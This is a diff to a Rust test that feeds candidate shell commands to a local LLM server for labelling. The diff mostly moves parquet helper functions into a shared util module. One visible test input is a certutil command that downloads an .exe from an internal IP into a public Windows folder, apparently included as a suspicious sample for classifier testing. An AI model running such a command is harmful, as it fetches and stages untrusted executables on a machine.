@@ -8,11 +8,11 @@
 //! `~/.cache/longtail/llm`); without them the test prints a skip line and passes, unless
 //! `LONGTAIL_REQUIRE_LLM=1`, which turns the skip into a failure.
 
+use crate::util::column;
 use std::io::{Read, Write};
 use std::net::TcpStream;
 use std::path::{Path, PathBuf};
 use std::process::{Child, Command, Stdio};
-use std::sync::Arc;
 use std::time::{Duration, Instant};
 
 const MODEL_NAME: &str = "smollm2-135m-instruct";
@@ -123,21 +123,6 @@ fn http_get(port: u16, path: &str) -> Option<(u16, String)> {
     Some((status, body))
 }
 
-fn write_candidates(path: &Path, cmds: &[&str]) {
-    use arrow::array::{ArrayRef, RecordBatch, StringArray};
-    let column: ArrayRef = Arc::new(StringArray::from_iter_values(cmds));
-    let batch = RecordBatch::try_from_iter([("cmd", column)]).unwrap();
-    longtail::table::write_parquet(path, &batch).unwrap();
-}
-
-fn column(path: &Path, name: &str) -> Vec<Option<String>> {
-    longtail::table::read_parquet(path)
-        .unwrap()
-        .iter()
-        .flat_map(|b| longtail::table::strings(b, name, path).unwrap())
-        .collect()
-}
-
 #[test]
 fn labels_through_a_real_llama_server() {
     let missing = missing_files();
@@ -175,7 +160,7 @@ fn labels_through_a_real_llama_server() {
         "certutil -urlcache -split -f http://10.0.0.5/a.exe C:\\Users\\Public\\a.exe",
     ];
     let input = dir.path().join("candidates.parquet");
-    write_candidates(&input, &cmds);
+    crate::util::write_cmds(&input, &cmds, None);
     let out = dir.path().join("labels.parquet");
     let benign = dir.path().join("labels.benign.parquet");
     let review = dir.path().join("labels.review.parquet");
